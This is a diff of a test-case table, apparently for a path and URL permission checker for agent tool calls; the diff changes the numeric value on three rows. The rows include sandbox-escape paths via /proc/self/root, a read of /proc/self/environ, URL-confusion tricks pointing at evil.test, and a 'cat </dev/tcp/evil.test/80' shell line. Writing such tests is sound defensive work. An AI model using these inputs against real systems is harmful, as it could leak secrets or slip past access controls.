@@ -70,8 +70,8 @@ glob|4|{"x": "ke*p/a"}
 glob with brackets|4|{"x": "[k]eep/a"}
 glob with braces|1|{"x": "{src,keep}/a"}
 glob of folders|4|{"x": "**/a"}
-own root folder|4|{"x": "/proc/self/root{p}/keep/a"}
-own folder behind a link|4|{"x": "here/keep/a"}
+own root folder|1|{"x": "/proc/self/root{p}/keep/a"}
+own folder behind a link|1|{"x": "here/keep/a"}
 environment of a process|4|{"path": "/proc/self/environ"}
 command|1|{"command": "cat keep/a"}
 command with quotes|1|{"command": "cat k\"ee\"p/\\a"}
@@ -106,7 +106,7 @@ after a user name|1|{"x": "https://good.test@evil.test/"}
 before a fragment|1|{"x": "https://evil.test#@good.test/"}
 before a backslash|1|{"x": "https://evil.test\\@good.test/"}
 one slash|1|{"x": "https:/evil.test/x"}
-remote repository|4|{"x": "git@evil.test:a/b.git"}
+remote repository|1|{"x": "git@evil.test:a/b.git"}
 device of a shell|1|{"command": "cat </dev/tcp/evil.test/80"}
 in a query|4|{"x": "https://good.test/?next=evil.test"}
 END
